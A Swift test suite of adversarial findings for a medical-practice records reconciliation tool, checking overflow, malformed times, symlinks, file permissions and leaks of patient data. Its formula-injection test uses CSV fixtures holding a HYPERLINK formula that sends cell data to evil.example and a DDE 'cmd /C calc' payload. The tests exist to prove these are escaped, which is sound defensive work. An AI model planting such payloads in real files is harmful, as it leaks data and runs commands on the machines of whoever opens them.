import Foundation
import Drill
import Testing
import Importing
import LacunaCore
import Store
@testable import Reports
@testable import Recovery
import TestFolders

/// A small case on disk written by a test: a playbook and its source files, in a fresh folder.
struct SmallCase {
    let folder: URL

    init(window: String = "{ from: 2025-04-03, to: 2025-04-04 }", sources: [(kind: String, path: String)],
         files: [String: [UInt8]], extra: String = "") throws {
        folder = TestFolder.fresh("lacuna-small")
        for (path, bytes) in files {
            let url = folder.appendingPathComponent(path)
            try FileManager.default.createDirectory(at: url.deletingLastPathComponent(), withIntermediateDirectories: true)
            try Data(bytes).write(to: url)
        }
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        let list = sources.map { "  - { kind: \($0.kind), path: \"\($0.path)\" }" }.joined(separator: "\n")
        try """
        lacuna: 1
        case: Small case
        practice: { name: Test Practice, timezone: Pacific/Auckland, country: NZ }
        window: \(window)
        providers:
          - { code: RS, name: Dr Roger Smith }
        sources:
        \(list)
        \(extra)
        """.write(to: playbookURL, atomically: true, encoding: .utf8)
    }

    init(sources: [(kind: String, path: String)], texts: [String: String], extra: String = "") throws {
        try self.init(sources: sources, files: texts.mapValues { Array($0.utf8) }, extra: extra)
    }

    var playbookURL: URL { folder.appendingPathComponent("playbook.yml") }
    var out: URL { folder.appendingPathComponent("out") }

    func run(out: URL? = nil, now: Date? = nil, notice: @escaping @Sendable (String) -> Void = { _ in }) throws -> RunOutcome {
        var caseRun = CaseRun(playbook: try Playbook.load(playbookURL), outputOverride: out ?? self.out)
        if let now { caseRun.work.now = now }
        caseRun.notice = notice
        return try caseRun.run()
    }

    /// Every file under the output folder, relative to it.
    func outputFiles() -> [String] {
        (FileManager.default.enumerator(atPath: out.path)?.allObjects as? [String] ?? []).sorted()
    }

    /// Every CSV the run wrote, parsed: (file, cells as written).
    func outputCSVs() throws -> [(String, [[String]])] {
        try outputFiles().filter { $0.hasSuffix(".csv") }.map { name in
            (name, CSVReader.read(Array(try Data(contentsOf: out.appendingPathComponent(name)))).records.map(\.fields))
        }
    }

    func text(_ name: String) throws -> String {
        String(decoding: try Data(contentsOf: out.appendingPathComponent(name)), as: UTF8.self)
    }
}

/// The findings of the adversarial pass (issue 14), each reproduced and held.
@Suite("Adversarial findings: nothing lost, nothing leaked, no crash")
struct AdversarialTests {
    static let register = """
        Patient ID,NHI,Surname,First Name,DOB,Mobile
        P1,ZZZ0016,Tipene,Jane,12/05/1980,021 123 4567
        P2,ZZZ0024,Ngata,Aroha,01/02/1990,027 765 4321

        """

    @Test("F1: amounts beyond any clinic's takings are rejects with their reason, and a day's takings cannot overflow")
    func hugeAmounts() throws {
        // The drill's Verifone layout: one terminal, one day.
        var eftpos = "Date,Time,Terminal ID,Merchant ID,Transaction Type,Card Type,Masked Card,Amount,Auth Code,Reference,Status\n"
        for i in 0..<120 {
            eftpos += "03/04/2025,\(String(format: "%02d", 8 + i / 60)):\(String(format: "%02d", i % 60)):00,HMC00001,40123456,Purchase,Visa,XXXXXXXXXXXX1234,999999999999999.99,\(100_000 + i),\(i),Approved\n"
        }
        eftpos += "03/04/2025,11:00:00,HMC00001,40123456,Purchase,Visa,XXXXXXXXXXXX1234,45.00,200000,999,Approved\n"
        let bank = "Date,Amount,Other Party,Description,Reference,Particulars,Analysis Code\n04/04/2025,45.00,MERCHANT T1,SETTLEMENT,,,\n"
        let small = try SmallCase(sources: [("register", "register.csv"), ("eftpos", "eftpos.csv"), ("bank", "bank.csv")],
                                  texts: ["register.csv": Self.register, "eftpos.csv": eftpos, "bank.csv": bank])
        for _ in 0..<2 {   // and the next run too
            let outcome = try small.run()
            let source = try #require(outcome.view.sources.first { $0.kind == .eftpos })
            #expect(source.read == 121)
            #expect(source.rejected == 120)
            #expect(source.imported == 1)
            let rejects = try small.text("rejects.csv")
            #expect(rejects.contains("beyond any clinic's takings"))
            #expect(!rejects.contains("999999"))
        }
        #expect(Money.add(Int.max - 1, 5) == Int.max)
        #expect(Money.add(Int.min + 1, -5) == Int.min)
        #expect(Money.parse("99,999,999.99") == 99_999_999_99)
        #expect(Money.parse("100000000.00") == nil)
        #expect(Money.parse("000000000045.00") == 4500)
    }

    @Test("F12: a time that names no real moment is a reject, never moved to another day")
    func malformedTimes() throws {
        #expect(Date(iso8601: "2025-04-03T99:00:00+13:00") == nil)
        #expect(Date(iso8601: "2025-04-03T10:75:00+13:00") == nil)
        #expect(Date(iso8601: "2025-04-03T10:15:00+99:00") == nil)
        #expect(Date(iso8601: "2025-04-03T10:15:00+13:00junk") == nil)
        #expect(Date(iso8601: "2025-04-03T10:15:00+13:00")?.isoUTC == "2025-04-02T21:15:00Z")
        #expect(Date(iso8601: "2025-04-03T10:15:00.250Z")?.isoUTC == "2025-04-03T10:15:00Z")
        #expect(Date(iso8601: "2025-04-03T10:15:00+13:00[Pacific/Auckland]") != nil)
        let portal = """
            [
              {"message_id":"M1","sent_at":"2025-04-03T99:00:00+13:00","sender":{"name":"Jane Tipene","nhi":"ZZZ0016"},"body":"hello","type":"message"},
              {"message_id":"M2","sent_at":"2025-04-03 25:10","sender":{"name":"Jane Tipene","nhi":"ZZZ0016"},"body":"hello","type":"message"},
              {"message_id":"M3","sent_at":"2025-04-03T10:15:00+13:00","sender":{"name":"Jane Tipene","nhi":"ZZZ0016"},"body":"hello","type":"message"}
            ]
            """
        let small = try SmallCase(sources: [("register", "register.csv"), ("portal", "portal.json")],
                                  texts: ["register.csv": Self.register, "portal.json": portal])
        let outcome = try small.run()
        let source = try #require(outcome.view.sources.first { $0.kind == .portal })
        #expect(source.read == 3)
        #expect(source.imported == 1)
        #expect(source.rejected == 2)
        #expect(outcome.view.traces.values.filter { $0.kind == .portal }.allSatisfy { $0.time?.localDate.description == "2025-04-03" })
    }

    @Test("F4: no cell of any CSV begins with =, +, -, @, tab or CR; phone numbers stay text")
    func formulaInjection() throws {
        let register = """
            Patient ID,NHI,Surname,First Name,DOB,Mobile,Email
            P1,ZZZ0016,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",Jane,12/05/1980,021 123 4567,@SUM(1+1)
            P2,ZZZ0024,-Ngata,"\tAroha",01/02/1990,+64 27 765 4321,"\r=1+2"

            """
        let appointments = """
            Appt Date,Start Time,Practitioner,Patient ID,Patient Name,Reason,Status
            3/04/2025,9:15 am,RS,P1,"=HYPERLINK(""x""), Jane",+cmd|' /C calc'!A0,Arrived
            4/04/2025,10:00 am,@RS,P2,"Ngata, Aroha",=2+5,Arrived

            """
        let portal = """
            [{"message_id":"=M1","sent_at":"2025-04-03T10:15:00+13:00","sender":{"name":"=cmd|' /C calc'!A0","nhi":"ZZZ0016","email":"@evil"},"subject":"+subject","body":"-body","type":"message"}]
            """
        let small = try SmallCase(sources: [("register", "register.csv"), ("appointments", "appointments.csv"), ("portal", "portal.json")],
                                  texts: ["register.csv": register, "appointments.csv": appointments, "portal.json": portal])
        let outcome = try small.run()
        #expect(outcome.view.encounters.count >= 2)
        var cells = 0
        for (name, rows) in try small.outputCSVs() {
            for row in rows {
                for cell in row {
                    cells += 1
                    guard let first = cell.unicodeScalars.first else { continue }
                    let plainNegative = first == "-" && Double(cell) != nil
                    #expect(!"=+-@\t\r".unicodeScalars.contains(first) || plainNegative, "\(name): a cell begins with \(first)")
                }
            }
        }
        #expect(cells > 100)
        let candidates = try small.text("candidates.csv")
        #expect(candidates.contains("'+64277654321"))
        #expect(candidates.contains("'+64211234567"))
        #expect(try small.text("inbox.csv").contains("'+subject"))
        #expect(CSVWriter.spreadsheetSafe("-3.25") == "-3.25")
        #expect(CSVWriter.spreadsheetSafe("-3.2.5") == "'-3.2.5")
        #expect(CSVWriter.spreadsheetSafe("00123") == "'00123")
        #expect(CSVWriter.spreadsheetSafe("123456789012") == "'123456789012")
        #expect(CSVWriter.spreadsheetSafe("12345") == "12345")
        #expect(CSVWriter.spreadsheetSafe("0") == "0")
        for cell in ["=1+2", "+6421", "@x", "\tx", "\rx", "-x", "00123", "x", "'quoted", "''=x", ""] {
            #expect(CSVWriter.plain(CSVWriter.spreadsheetSafe(cell)) == cell)
        }
        // Every first character: marked only where it is one a spreadsheet acts on (a digit's and a minus's
        // cells as the rules above say), whether or not its byte is ASCII.
        for value in UInt32(0)...0x2FF {
            guard let scalar = Unicode.Scalar(value) else { continue }
            for cell in [String(Character(scalar)), String(Character(scalar)) + "1", String(scalar) + "\u{0301}x", String(scalar) + "\n"] {
                let safe = CSVWriter.spreadsheetSafe(cell)
                if "=+@\t\r\0".unicodeScalars.contains(scalar) {
                    #expect(safe == "'" + cell, "U+\(String(value, radix: 16))")
                } else if !"-0123456789".unicodeScalars.contains(scalar) {
                    #expect(safe == cell, "U+\(String(value, radix: 16))")
                }
            }
        }
        #expect(CSVWriter.spreadsheetSafe("\r\nx") == "'\r\nx")
    }

    @Test("F4: a cell is quoted as RFC 4180 asks, where it must be, and is otherwise its bytes")
    func quoting() {
        // Quoted as RFC 4180 asks (each quote twice, the field between quotes where it holds a comma, a quote,
        // a line break or a space at an end), the rest byte for byte: as the field's scalars written one by one.
        func quotedByScalars(_ field: String) -> String {
            let needs = field.contains(where: { ",\"\n\r".contains($0) }) || field.unicodeScalars.contains { ",\"\n\r".unicodeScalars.contains($0) }
                || field.utf8.first == 0x20 || field.utf8.last == 0x20
            guard needs else { return field }
            var out = "\""
            for scalar in field.unicodeScalars { if scalar == "\"" { out += "\"\"" } else { out.unicodeScalars.append(scalar) } }
            return out + "\""
        }
        for field in ["", "x", "a,b", "\"", "\"\"", "say \"hi\", then", " lead", "trail ", "line\r\nbreak", "Ngā \"Tāne\" Mahuta, 🙂",
                      "e\u{301},\"", String(repeating: "\",", count: 300), "plain Tāmati", "\n"] {
            #expect(CSVWriter.quote(field) == quotedByScalars(field), "\(field.debugDescription)")
            #expect(Array(CSVWriter.quote(field).utf8) == Array(quotedByScalars(field).utf8))
        }
    }

    @Test("F5: a provider value of hundreds of bytes carrying patient data names no file and appears in no message")
    func longPractitioner() throws {
        let long = "Tipene Jane 12/05/1980 NHI ZZZ0016 " + String(repeating: "seen by the locum on the ward round ", count: 8)
        let appointments = """
            Appt Date,Start Time,Practitioner,Patient ID,Patient Name,Reason,Status
            3/04/2025,9:15 am,\(long),P1,"Tipene, Jane",knee,Arrived
            4/04/2025,10:00 am,RS,P2,"Ngata, Aroha",cough,Arrived

            """
        let small = try SmallCase(sources: [("register", "register.csv"), ("appointments", "appointments.csv")],
                                  texts: ["register.csv": Self.register, "appointments.csv": appointments])
        for _ in 0..<2 {
            let outcome = try small.run()
            #expect(outcome.view.encounters.count == 2)
            let files = small.outputFiles()
            #expect(files.contains("call-lists/RS.csv"))
            #expect(files.contains { $0.hasPrefix("call-lists/clinician-") && $0.hasSuffix(".csv") })
            for file in files {
                #expect(file.utf8.count < 120)
                for secret in ["Tipene", "ZZZ0016", "1980", "locum"] { #expect(!file.contains(secret), "\(file)") }
            }
            for warning in outcome.warnings {
                for secret in ["Tipene", "ZZZ0016", "1980", "locum"] { #expect(!warning.contains(secret)) }
            }
        }
        #expect(CallList.fileLabel("WS", listed: []) == "WS")
        #expect(CallList.fileLabel("Dr-Jones", listed: ["Dr-Jones"]) == "Dr-Jones")
        #expect(CallList.fileLabel("Dr-Jones", listed: []).hasPrefix("clinician-"))
        #expect(CallList.fileLabel("../x", listed: ["../x"]).hasPrefix("clinician-"))
        #expect(CallList.fileLabel(nil, listed: []) == "unassigned")
    }

    @Test("F8: a source file whose name is not UTF-8 is read, counted, and named with its odd bytes escaped")
    func nonUTF8Name() throws {
        let small = try SmallCase(sources: [("register", "register")], texts: [:])
        let folder = small.folder.appendingPathComponent("register")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        let name = Array(folder.path.utf8) + Array("/M".utf8) + [0xE9] + Array("decins.csv".utf8)
        let descriptor = (name + [0]).withUnsafeBufferPointer { buffer in
            buffer.baseAddress!.withMemoryRebound(to: CChar.self, capacity: buffer.count) { open($0, O_WRONLY | O_CREAT, 0o600) }
        }
        #expect(descriptor >= 0)
        let bytes = Array(Self.register.utf8)
        _ = bytes.withUnsafeBytes { write(descriptor, $0.baseAddress!, $0.count) }
        close(descriptor)
        let outcome = try small.run()
        #expect(outcome.view.sources[0].files == 1)
        #expect(outcome.view.sources[0].imported == 2)
        #expect(outcome.warnings.contains { $0.contains("register/M\\xE9decins.csv") && $0.contains("not UTF-8") })
        #expect(SourceFiles.display([0x61, 0xC3, 0xA9, 0xFF, 0x62]) == "aé\\xFFb")
    }

    @Test("F9: outputs are owner-only whatever was there; a leftover temporary file or a symbolic link is never written through")
    func ownerOnly() throws {
        let small = try SmallCase(sources: [("register", "register.csv")], texts: ["register.csv": Self.register])
        try FileManager.default.createDirectory(at: small.out, withIntermediateDirectories: true)
        chmod(small.out.path, 0o777)
        _ = FileManager.default.createFile(atPath: small.out.appendingPathComponent(".candidates.csv.partial").path, contents: Data("x".utf8),
                                       attributes: [.posixPermissions: 0o644])
        let elsewhere = small.folder.appendingPathComponent("elsewhere.txt")
        try Data("untouched".utf8).write(to: elsewhere)
        try FileManager.default.createSymbolicLink(atPath: small.out.appendingPathComponent(".sms.csv.partial").path, withDestinationPath: elsewhere.path)
        try FileManager.default.createSymbolicLink(atPath: small.out.appendingPathComponent("inbox.csv").path, withDestinationPath: elsewhere.path)
        _ = try small.run()
        func mode(_ path: String) throws -> Int {
            (try FileManager.default.attributesOfItem(atPath: path)[.posixPermissions] as? Int) ?? -1
        }
        #expect(try mode(small.out.path) == 0o700)
        for file in small.outputFiles() {
            let path = small.out.appendingPathComponent(file).path
            #expect(try mode(path) & 0o077 == 0, "\(file)")
        }
        #expect(String(decoding: try Data(contentsOf: elsewhere), as: UTF8.self) == "untouched")
        let attributes = try FileManager.default.attributesOfItem(atPath: small.out.appendingPathComponent("inbox.csv").path)
        #expect(attributes[.type] as? FileAttributeType == .typeRegular)
        #expect(!small.outputFiles().contains { $0.hasSuffix(".partial") })
        // A folder inside the output folder that is a symbolic link is refused, naming it.
        try FileManager.default.removeItem(at: small.out.appendingPathComponent("requests"))
        try FileManager.default.createSymbolicLink(atPath: small.out.appendingPathComponent("requests").path, withDestinationPath: small.folder.path)
        #expect(throws: RunError.self) { try small.run() }
        do { _ = try small.run() } catch { #expect(String(describing: error).contains("requests: it is a symbolic link")) }
    }

    @Test("F10: an output folder inside a source folder is refused before anything is written")
    func outputInsideSource() throws {
        let small = try SmallCase(sources: [("register", "register.csv"), ("portal", "sources/")],
                                  texts: ["register.csv": Self.register, "sources/portal.csv": "Message ID,Date Sent,Patient Name\n"])
        for out in [small.folder.appendingPathComponent("sources/out"), small.folder.appendingPathComponent("sources")] {
            do {
                _ = try small.run(out: out)
                Issue.record("expected a refusal")
            } catch {
                #expect(String(describing: error).contains("is inside the `portal` source"))
            }
            #expect(!FileManager.default.fileExists(atPath: out.appendingPathComponent("case.sqlite").path))
        }
        let globbed = try SmallCase(sources: [("register", "register.csv"), ("portal", "s*/")],
                                    texts: ["register.csv": Self.register, "sources/portal.csv": "Message ID,Date Sent,Patient Name\n"])
        #expect(throws: RunError.self) { try globbed.run(out: globbed.folder.appendingPathComponent("sources/deep/out")) }
        _ = try small.run()   // beside the sources: fine
    }

    @Test("F13: a folder holds one case: another practice's playbook run into it is refused, nothing changed; --same-case takes a renamed case over")
    func caseOwnsItsFolder() throws {
        let first = try SmallCase(sources: [("register", "register.csv")], texts: ["register.csv": Self.register])
        _ = try first.run()
        let other = first.folder.appendingPathComponent("other.yml")
        let text = try String(contentsOf: first.playbookURL, encoding: .utf8).replacingOccurrences(of: "case: Small case", with: "case: Another practice's case")
        try text.write(to: other, atomically: true, encoding: .utf8)
        let before = try Data(contentsOf: first.out.appendingPathComponent("candidates.csv"))
        var intruder = CaseRun(playbook: try Playbook.load(other), outputOverride: first.out)
        do {
            _ = try intruder.run()
            Issue.record("expected a refusal")
        } catch {
            let said = String(describing: error)
            #expect(said.contains("holds the case \"Small case\"") && said.contains("not \"Another practice's case\"") && said.contains("--same-case"), "\(said)")
        }
        #expect(try Data(contentsOf: first.out.appendingPathComponent("candidates.csv")) == before)
        _ = try first.run()   // its own case: fine
        intruder.takeOver = true
        _ = try intruder.run()
        intruder.takeOver = false
        _ = try intruder.run()   // now the folder's case
        #expect(throws: RunError.self) { try first.run() }
    }

    @Test("F14: a register whose headers were all unknown, or whose rows name nobody, fails the run; a good one does not")
    func registerNamingNobody() throws {
        let unknown = try SmallCase(sources: [("register", "register.csv")], texts: ["register.csv": "Foo,Bar,Baz\nx,y,z\nq,r,s\n"])
        let refused = try unknown.run()
        #expect(refused.failures.contains { $0.contains("record(s) was rejected") }, "\(refused.failures)")
        let nameless = try SmallCase(sources: [("register", "register.csv")],
                                     texts: ["register.csv": "Patient ID,Mobile\nP1,021 555 0101\nP2,021 555 0102\n"])
        let nobody = try nameless.run()
        #expect(nobody.failures.contains { $0.contains("none of its 2 row(s) names a patient") }, "\(nobody.failures) \(nobody.view.sources)")
        let good = try SmallCase(sources: [("register", "register.csv")], texts: ["register.csv": Self.register])
        #expect(try good.run().failures.isEmpty)
    }

    @Test("F15: a clinician the records name often who is not in providers: is said once, with who it likely is; a patient's name never")
    func unknownClinician() throws {
        var book = "Date,Time,Patient Name,DOB,Provider\n"
        for n in 0..<4 { book += "03/04/2025,09:\(10 + n),Jane Doe\(n),01/02/1980,Dr Rodger Smith\n" }
        for n in 0..<3 { book += "03/04/2025,10:\(10 + n),Tom Roe\(n),01/02/1981,Aroha Tipene\n" }
        book += "04/04/2025,11:00,Ann Poe,01/02/1982,Dr Ngata\n"
        let small = try SmallCase(sources: [("register", "register.csv"), ("appointments", "book.csv")],
                                  texts: ["register.csv": Self.register, "book.csv": book])
        let warnings = try small.run().warnings
        let said = warnings.filter { $0.contains("not in the playbook's `providers:`") }
        #expect(said.count == 1, "\(said)")
        #expect(said.first?.contains("4 records (appointments) name the clinician \"Dr Rodger Smith\"") == true)
        #expect(said.first?.contains("If it is RS (Dr Roger Smith), add \"Dr Rodger Smith\" to their `aliases:`") == true)
        #expect(!warnings.joined().contains("Aroha Tipene"), "a name without a clinician's title is never quoted")
        #expect(!warnings.joined().contains("Dr Ngata"), "once is not recurring")
    }

    @Test("F11: a window of years is a typo, refused with its line unless --long-window; the SMS names both years")
    func longWindow() throws {
        let small = try SmallCase(sources: [("register", "register.csv")], texts: ["register.csv": Self.register])
        let text = try String(contentsOf: small.playbookURL, encoding: .utf8).replacingOccurrences(of: "to: 2025-04-04", with: "to: 2052-04-04")
        try text.write(to: small.playbookURL, atomically: true, encoding: .utf8)
        do {
            _ = try Playbook.load(small.playbookURL)
            Issue.record("expected a refusal")
        } catch {
            #expect(error.line == 4)
            #expect(error.description.contains("the window is 9864 days"))
            #expect(error.description.contains("--long-window"))
        }
        let book = try Playbook.load(small.playbookURL, longWindow: true)
        #expect(book.window.dates.count == 9864)
        let view = CaseView(caseName: "c", practiceName: "p", window: book.window, sources: [], patients: [], traces: [], encounters: [], unmatched: [], rejects: [])
        #expect(SMSList.message(view, options: WorkOptions()).contains("Thu 3 Apr 2025 to Thu 4 Apr 2052"))
    }

    @Test("F13: a second run on the same output folder waits for the first and says so")
    func secondRunWaits() throws {
        let small = try SmallCase(sources: [("register", "register.csv")], texts: ["register.csv": Self.register])
        try FileManager.default.createDirectory(at: small.out, withIntermediateDirectories: true)
        var held: RunLock? = try RunLock(folder: small.out) {}
        let said = Said()
        let finished = Said()
        let thread = Thread {
            do {
                _ = try small.run(notice: { said.add($0) })
                finished.add("ok")
            } catch {
                finished.add("failed: \(error)")
            }
        }
        thread.start()
        Thread.sleep(forTimeInterval: 0.5)
        #expect(finished.all.isEmpty)
        #expect(said.all.contains { $0.contains("another run is in progress") })
        held = nil
        _ = held
        for _ in 0..<200 where finished.all.isEmpty { Thread.sleep(forTimeInterval: 0.05) }
        #expect(finished.all == ["ok"])
    }

    @Test("F14: a failure to write an output names that output, not the case database")
    func writeFailureNamed() throws {
        let small = try SmallCase(sources: [("register", "register.csv")], texts: ["register.csv": Self.register])
        try FileManager.default.createDirectory(at: small.out.appendingPathComponent("candidates.csv/x"), withIntermediateDirectories: true)
        do {
            _ = try small.run()
            Issue.record("expected a failure")
        } catch {
            let text = String(describing: error)
            #expect(text.contains("cannot write out/candidates.csv"))
            #expect(!text.contains("case.sqlite"))
        }
    }

    @Test("F18: the same encounter and note keep their control id whatever day the run is made")
    func stableControlIDs() throws {
        let appointments = """
            Appt Date,Start Time,Practitioner,Patient ID,Patient Name,Reason,Status
            3/04/2025,9:15 am,RS,P1,"Tipene, Jane",knee,Arrived

            """
        let small = try SmallCase(sources: [("register", "register.csv"), ("appointments", "appointments.csv")],
                                  texts: ["register.csv": Self.register, "appointments.csv": appointments])
        let clock = PracticeClock(timeZoneIdentifier: "Pacific/Auckland")!
        var ids: [[String]] = []
        for day in [10, 11] {
            _ = try small.run(now: clock.instant(date: LocalDate(year: 2025, month: 4, day: day)!, time: LocalTime(hour: 9, minute: 0)!))
            let rows = try #require(try small.outputCSVs().first { $0.0 == "annotations/annotations.csv" }?.1)
            ids.append(rows.dropFirst().map { $0[2] })
            #expect(try String(contentsOf: small.out.appendingPathComponent("annotations").appendingPathComponent(rows[1][0]), encoding: .utf8)
                .contains("Retrospective entry made \(day == 10 ? "Thursday" : "Friday") \(day) Apr 2025"))
        }
        #expect(ids[0].count == 1)
        #expect(ids[0] == ids[1])
    }

    @Test("a file named by two sources is said")
    func fileTwice() throws {
        let small = try SmallCase(sources: [("register", "register.csv"), ("callbacks", "*.csv")], texts: ["register.csv": Self.register])
        let outcome = try small.run()
        #expect(outcome.warnings.contains { $0.contains("register.csv is named by 2 sources") && $0.contains("`callbacks` (line 9)") })
    }

    static let twoVisits = """
        Appt Date,Start Time,Practitioner,Patient ID,Patient Name,Reason,Status
        3/04/2025,9:15 am,RS,P1,"Tipene, Jane",knee,Arrived
        4/04/2025,10:00 am,RS,P2,"Ngata, Aroha",cough,Arrived

        """

    /// A case with two patients on Dr RS's list, run once.
    func listedCase() throws -> (SmallCase, [[String: String]]) {
        let small = try SmallCase(sources: [("register", "register.csv"), ("appointments", "appointments.csv")],
                                  texts: ["register.csv": Self.register, "appointments.csv": Self.twoVisits])
        _ = try small.run()
        let rows = try table(Data(contentsOf: small.out.appendingPathComponent("call-lists/RS.csv")))
        #expect(rows.count == 2)
        return (small, rows)
    }

    func save(_ text: String, as name: String, in small: SmallCase, modified: Date) throws {
        let url = small.out.appendingPathComponent("call-lists/\(name)")
        try Data(text.utf8).write(to: url)
        try FileManager.default.setAttributes([.modificationDate: modified], ofItemAtPath: url.path)
    }

    func outcomes(_ small: SmallCase) throws -> [String: CallOutcome] {
        try StoreAccess(path: small.out.appendingPathComponent("case.sqlite").path).store.callOutcomes()
    }

    @Test("F6: a list saved with other header words, a title row and a broken row still gives its outcomes; the file is kept")
    func editedListRead() throws {
        let (small, rows) = try listedCase()
        let ids = rows.map { $0["candidate_ids"]! }
        let edited = """
            Dr Smith's calls, Thursday evening,,,
            Candidate IDs,Patient,Outcome,Seen On,Closed
            \(ids[0]),Jane,Reached,Thursday,yes
            \(ids[1]),"Aroha" rang back,voicemail,,

            """
        try save(edited, as: "RS.csv", in: small, modified: Date())
        let outcome = try small.run()
        let stored = try outcomes(small)
        #expect(stored[ids[0]]?.outcome == "Reached")
        #expect(stored[ids[0]]?.seenOn == "Thursday")
        #expect(stored[ids[0]]?.isDone == true)
        #expect(stored[ids[1]] == nil)
        #expect(outcome.warnings.contains { $0.contains("call-lists/RS.csv line 4") && $0.contains("could not be read") })
        #expect(outcome.warnings.contains { $0.contains("call-lists/RS.csv: 1 outcome(s) recorded") && $0.contains("kept in the case (kept file 1)") })
        let kept = try #require(try StoreAccess(path: small.out.appendingPathComponent("case.sqlite").path).store.keptFile(1))
        #expect(kept.name == "call-lists/RS.csv")
        #expect(String(decoding: kept.bytes, as: UTF8.self) == edited)
        // The list written again carries the outcome; a run with nothing changed records nothing new.
        #expect(try table(Data(contentsOf: small.out.appendingPathComponent("call-lists/RS.csv"))).first { $0["candidate_ids"] == ids[0] }?["outcome"] == "Reached")
        let again = try small.run()
        #expect(!again.warnings.contains { $0.contains("call-lists") })
        for warning in outcome.warnings { #expect(!warning.contains("Tipene") && !warning.contains("Aroha") && !warning.contains("Reached")) }
    }

    @Test("F6: an older copy beside the list never wins and is never removed; a newer copy of an earlier state does not undo")
    func backupCopies() throws {
        let (small, rows) = try listedCase()
        let header = "candidate_ids,outcome,closed\n"
        let id = rows[0]["candidate_ids"]!
        let start = Date().addingTimeInterval(-3600)
        try save(header + "\(id),no answer,\n", as: "RS_backup.csv", in: small, modified: start)
        try save(header + "\(id),reached,\n", as: "RS.csv", in: small, modified: start.addingTimeInterval(60))
        _ = try small.run()
        #expect(try outcomes(small)[id]?.outcome == "reached")
        #expect(FileManager.default.fileExists(atPath: small.out.appendingPathComponent("call-lists/RS_backup.csv").path))
        _ = try small.run()
        #expect(try outcomes(small)[id]?.outcome == "reached")
        // A copy of the earlier state saved later (copied without keeping its time) is not applied.
        try save(header + "\(id),no answer,\n", as: "RS (2).csv", in: small, modified: Date())
        let outcome = try small.run()
        #expect(try outcomes(small)[id]?.outcome == "reached")
        #expect(outcome.warnings.contains { $0.contains("call-lists/RS (2).csv: 0 outcome(s) recorded; 1 older than an outcome already recorded") })
        #expect(FileManager.default.fileExists(atPath: small.out.appendingPathComponent("call-lists/RS (2).csv").path))
        // A workbook that cannot be opened is said, never removed; an .ods is said, not read.
        try save("PK", as: "RS.xlsx", in: small, modified: Date())
        try save("PK", as: "RS.ods", in: small, modified: Date())
        let withWorkbook = try small.run()
        #expect(withWorkbook.warnings.contains { $0.contains("call-lists/RS.xlsx: not read") && $0.contains("save it as CSV") })
        #expect(withWorkbook.warnings.contains { $0.contains("call-lists/RS.ods: not read") })
        #expect(FileManager.default.fileExists(atPath: small.out.appendingPathComponent("call-lists/RS.xlsx").path))
        // A list saved from a spreadsheet program as .xlsx (a title row above the header, `Outcome` and
        // `Closed` as it capitalises them) is read like the CSV.
        let other = rows[1]["candidate_ids"]!
        let workbook = try XLSXWriter.workbook([("Call list", [
            [.text("Dr R Smith: evening 1")],
            [.text("Candidate IDs"), .text("Outcome"), .text("Summary"), .text("Closed"), .text("Rung by")],
            [.text(other), .text("spoke to mum"), .text("seen Thursday, improving"), .empty, .text("Tania at reception")],
        ])])
        try FileManager.default.removeItem(at: small.out.appendingPathComponent("call-lists/RS.xlsx"))
        try Data(workbook).write(to: small.out.appendingPathComponent("call-lists/RS-saved.xlsx"))
        let fromWorkbook = try small.run()
        #expect(try outcomes(small)[other]?.outcome == "spoke to mum")
        #expect(try outcomes(small)[other]?.summary == "seen Thursday, improving")
        #expect(try CaseStore(path: small.out.appendingPathComponent("case.sqlite").path).outcomes(candidateID: other).last?.caller == "Tania at reception",
                "the caller typed in the row, not the person running")
        #expect(fromWorkbook.warnings.contains { $0.contains("call-lists/RS-saved.xlsx: 1 outcome(s) recorded") })
        #expect(FileManager.default.fileExists(atPath: small.out.appendingPathComponent("call-lists/RS-saved.xlsx").path))
    }

    @Test("F7: `closed` takes yes and no words, a reason closes, clearing the cell reopens, and words that do not say are reported")
    func closedWords() throws {
        for (text, closing) in [("no", CallOutcome.Closing.open), ("0", .open), ("not yet", .open), ("No - still trying", .open), ("", .open),
                                ("yes", .closed), ("Y", .closed), ("x", .closed), ("moved to Perth", .closed), ("1", .closed),
                                ("?", .unclear), ("maybe", .unclear), ("TBC", .unclear)] {
            #expect(CallOutcome.closing(of: text) == closing, "\(text)")
        }
        for (text, kind) in [("Reached", CallOutcome.Kind.reached), ("spoke to pt", .reached), ("spoke to mum", .proxy), ("Left msg", .voicemail),
                             ("VM", .voicemail), ("no answer", .noAnswer), ("N/A", .noAnswer), ("wrong no.", .wrongNumber), ("declined", .declined)] {
            #expect(CallOutcome.kind(of: text) == kind, "\(text)")
        }
        #expect(CallOutcome.kind(of: "rang the pharmacy") == nil)
        let (small, rows) = try listedCase()
        let id = rows[0]["candidate_ids"]!
        func recalls() throws -> String { try small.text("recalls.csv") }
        #expect(try recalls().contains(id))
        var when = Date().addingTimeInterval(-600)
        func type(_ closed: String, outcome: String = "no answer") throws -> RunOutcome {
            when = when.addingTimeInterval(60)
            try save("candidate_ids,outcome,closed\n\(id),\(outcome),\(closed)\n", as: "RS.csv", in: small, modified: when)
            return try small.run()
        }
        _ = try type("no")
        #expect(try recalls().contains(id))
        _ = try type("not yet")
        #expect(try recalls().contains(id))
        _ = try type("moved to Perth")
        #expect(try !recalls().contains(id))
        _ = try type("")
        #expect(try recalls().contains(id))
        #expect(try outcomes(small)[id]?.closed == "")
        let unclear = try type("?", outcome: "rang the pharmacy")
        #expect(try recalls().contains(id))
        #expect(unclear.warnings.contains { $0.contains("line 2") && $0.contains("`closed` does not say yes or no") })
        #expect(unclear.warnings.contains { $0.contains("line 2") && $0.contains("outcome is not one Lacuna knows") })
        #expect(try outcomes(small)[id]?.outcome == "rang the pharmacy")
    }
}

/// Lines said from another thread.
final class Said: @unchecked Sendable {
    private var lines: [String] = []
    private let lock = NSLock()
    func add(_ line: String) { lock.lock(); lines.append(line); lock.unlock() }
    var all: [String] { lock.lock(); defer { lock.unlock() }; return lines }
}